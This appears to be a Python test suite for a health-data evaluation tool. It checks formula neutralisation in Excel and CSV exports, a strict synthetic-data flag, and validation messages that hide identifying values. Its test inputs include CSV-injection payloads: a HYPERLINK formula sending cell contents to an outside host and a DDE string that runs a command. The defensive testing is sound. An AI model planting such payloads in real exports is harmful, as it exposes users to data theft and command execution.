"""Input hardening: no formula in a workbook or CSV export, a strict ``synthetic`` flag, and no
identifying value in a validation message on data flagged real."""

from __future__ import annotations

import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from careval.data.access import Dataset
from careval.data.validate import validate
from careval.report.workbook import FORMULA_START, csv_text, write_workbook

DANGEROUS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "-5",  # text that looks like a number stays text
]


def _cells(path: Path) -> list:  # type: ignore[type-arg]
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_no_string_in_the_workbook_is_a_formula(tmp_path: Path) -> None:
    results = {
        "surveys": {
            "groups": [{"group": s, "answer": s, "n": -3, "share": -0.25} for s in DANGEROUS],
            "note": "=1+1",
        },
        "qualitative": {"codes": [{"=code": "@code", "count": 4, "nested": {"a": 1}}]},
        "figure": -12.5,
        "label": "=A1",
    }
    write_workbook(results, tmp_path / "t.xlsx")
    cells = _cells(tmp_path / "t.xlsx")
    strings = [c.value for c in cells if isinstance(c.value, str)]
    assert all(c.data_type != "f" for c in cells)
    assert not [s for s in strings if s.startswith(FORMULA_START)]
    for s in DANGEROUS + ["=1+1", "@code", "=code", "=A1"]:
        assert "'" + s in strings, s  # written in full, behind one quote
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers.count(-3) == len(DANGEROUS) and numbers.count(-0.25) == len(DANGEROUS)
    assert -12.5 in numbers and 4 in numbers
    assert "-5" not in strings and "'-5" in strings  # text stays text, neutralised


def test_control_characters_do_not_break_the_workbook(tmp_path: Path) -> None:
    write_workbook({"t": [{"answer": "\x01=1+1", "ok": "fine\ttext"}]}, tmp_path / "t.xlsx")
    strings = [c.value for c in _cells(tmp_path / "t.xlsx") if isinstance(c.value, str)]
    assert "\ufffd=1+1" in strings and "fine\ttext" in strings


def test_csv_exports_are_neutralised_and_keep_numbers() -> None:
    df = pd.DataFrame({"answer": DANGEROUS, "n": range(-4, len(DANGEROUS) - 4), "=x": "a"})
    text = csv_text(df)
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert list(back.columns) == ["answer", "n", "'=x"]
    assert back["answer"].tolist() == ["'" + s for s in DANGEROUS]
    assert back["n"].tolist() == list(range(-4, len(DANGEROUS) - 4))
    assert df["answer"].tolist() == DANGEROUS  # the frame given is not altered


# --- the synthetic flag: a JSON boolean, and disclosure control on unless it is true


def _copy(synth_dir: Path, d: Path, **manifest: object) -> Path:
    """A copy of the generated dataset's tables; its dataset.json holds only the extract date
    and ``manifest``."""
    d.mkdir(parents=True)
    for f in synth_dir.glob("*.parquet"):
        if f.name != "true_risk.parquet":
            shutil.copy(f, d / f.name)
    extract = json.loads((synth_dir / "dataset.json").read_text())["extract_date"]
    (d / "dataset.json").write_text(json.dumps({"extract_date": extract, **manifest}))
    return d


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("false", '"false" is a string'),
        ("true", '"true" is a string'),
        (1, "1 is a number"),
        (None, "not a JSON boolean: null"),
        ("yes", '"yes" is a string'),
    ],
)
def test_a_synthetic_flag_that_is_not_a_boolean_is_refused(
    synth_dir: Path, tmp_path: Path, cli: Callable[..., Any], value: object, shown: str
) -> None:
    d = _copy(synth_dir, tmp_path / "d", synthetic=value)
    with Dataset(d) as ds:
        assert ds.synthetic is False  # disclosure control stays on
    [p] = [p for p in validate(d) if p.severity == "error"]
    assert (p.table, p.column, p.counts_rows) == ("dataset.json", "synthetic", False)
    assert shown in p.rule and "true or false" in p.allowed
    res = cli("validate", str(d))
    assert res.returncode == 2 and "Traceback" not in res.stderr
    assert "dataset.json.synthetic: not a JSON boolean" in res.stderr and shown in res.stderr


@pytest.mark.parametrize(
    ("manifest", "synthetic"),
    [({"synthetic": True}, True), ({"synthetic": False}, False), ({}, False)],
)
def test_only_true_marks_data_synthetic(
    synth_dir: Path, tmp_path: Path, manifest: dict[str, object], synthetic: bool
) -> None:
    d = _copy(synth_dir, tmp_path / "d", **manifest)
    with Dataset(d) as ds:
        assert ds.synthetic is synthetic
    assert [p for p in validate(d) if p.severity == "error"] == []


# --- on data flagged real, messages name rows and columns, not values


def _plant(d: Path) -> dict[str, Any]:
    """Two bad sexes, an unknown person and a duplicated spell id; what was planted where."""
    persons = pq.read_table(d / "persons.parquet")
    sex = persons.column("sex").to_pylist()
    for i in (10, 20):
        sex[i] = "X"
    persons = persons.set_column(
        persons.schema.get_field_index("sex"),
        persons.schema.field("sex"),
        pa.array(sex, persons.schema.field("sex").type),
    )
    pq.write_table(persons, d / "persons.parquet")
    spells = pq.read_table(d / "inpatient_spells.parquet")
    ids, pid = spells.column("spell_id").to_pylist(), spells.column("person_id").to_pylist()
    ids[7] = ids[2]  # rows 3 and 8 share a key
    pid[4] = "Q000000042"  # row 5: nobody
    for name, values in (("spell_id", ids), ("person_id", pid)):
        i = spells.schema.get_field_index(name)
        spells = spells.set_column(i, spells.schema.field(name), pa.array(values, pa.string()))
    pq.write_table(spells, d / "inpatient_spells.parquet")
    return {
        "person_ids": set(persons.column("person_id").to_pylist()[:30]) | {"Q000000042"},
        "births": {str(b) for b in persons.column("birth_month").to_pylist()[:30]},
        "spell_id": ids[2],
    }


EXPECTED = {  # (table, column, rule) -> (count, row numbers)
    ("persons", "sex", "value not allowed"): (2, (11, 21)),
    ("inpatient_spells", "person_id", "not found in persons.person_id"): (1, (5,)),
    ("inpatient_spells", "spell_id", "duplicate key"): (2, (3, 8)),
}


def _found(problems: list) -> dict:  # type: ignore[type-arg]
    return {(p.table, p.column, p.rule): p for p in problems if p.severity == "error"}


def test_real_data_messages_name_rows_not_values(
    synth_dir: Path, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    d = _copy(synth_dir, tmp_path / "real", synthetic=False)
    planted = _plant(d)
    found = _found(validate(d))
    assert set(found) == set(EXPECTED)
    for k, (count, rows) in EXPECTED.items():
        assert (found[k].count, found[k].rows, found[k].example) == (count, rows, ""), k
    sex = pq.read_table(d / "persons.parquet").column("sex").to_pylist()
    assert [sex[r - 1] for r in found["persons", "sex", "value not allowed"].rows] == ["X", "X"]
    res = cli("validate", str(d))
    assert res.returncode == 2
    message = res.stderr
    assert "persons.sex: value not allowed (2 rows)" in message and "rows 11, 21" in message
    assert "inpatient_spells.person_id: not found in persons.person_id (1 row)" in message
    assert "; row 5" in message and "rows 3, 8" in message
    for secret in planted["person_ids"] | planted["births"] | {planted["spell_id"], "sex=X"}:
        assert secret not in message, secret
    assert "--show-examples" in message  # says how to see the values

    shown = cli("--show-examples", "validate", str(d))
    assert shown.returncode == 2
    assert "e.g. row 11: person_id=" in shown.stderr and "sex=X" in shown.stderr
    assert "person_id=Q000000042" in shown.stderr and planted["spell_id"] in shown.stderr
    with_values = _found(validate(d, show_examples=True))
    assert all(
        with_values[k].rows == rows and with_values[k].example for k, (_, rows) in EXPECTED.items()
    )


def test_synthetic_data_keep_showing_examples(
    synth_dir: Path, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    d = _copy(synth_dir, tmp_path / "synth", synthetic=True)
    planted = _plant(d)
    found = _found(validate(d))
    assert {k: (p.count, p.rows) for k, p in found.items()} == EXPECTED
    assert "sex=X" in found["persons", "sex", "value not allowed"].example
    res = cli("validate", str(d))
    assert res.returncode == 2 and "e.g. row 5: " in res.stderr
    assert "person_id=Q000000042" in res.stderr and planted["spell_id"] in res.stderr
    assert "--show-examples" not in res.stderr


def test_a_file_column_is_never_taken_for_the_row_numbers(synth_dir: Path, tmp_path: Path) -> None:
    d = _copy(synth_dir, tmp_path / "real", synthetic=False)
    _plant(d)
    persons = pq.read_table(d / "persons.parquet")
    n = persons.num_rows
    pq.write_table(persons.append_column("_careval_row", pa.array([99] * n)), d / "persons.parquet")
    assert _found(validate(d))["persons", "sex", "value not allowed"].rows == (11, 21)
    # A column DuckDB's row numbering cannot live beside: no row numbers, and still no values.
    clash = persons.append_column("file_row_number", pa.array(["P1"] * n))
    pq.write_table(clash, d / "persons.parquet")
    p = _found(validate(d))["persons", "sex", "value not allowed"]
    assert (p.count, p.rows, p.example) == (2, (), "")
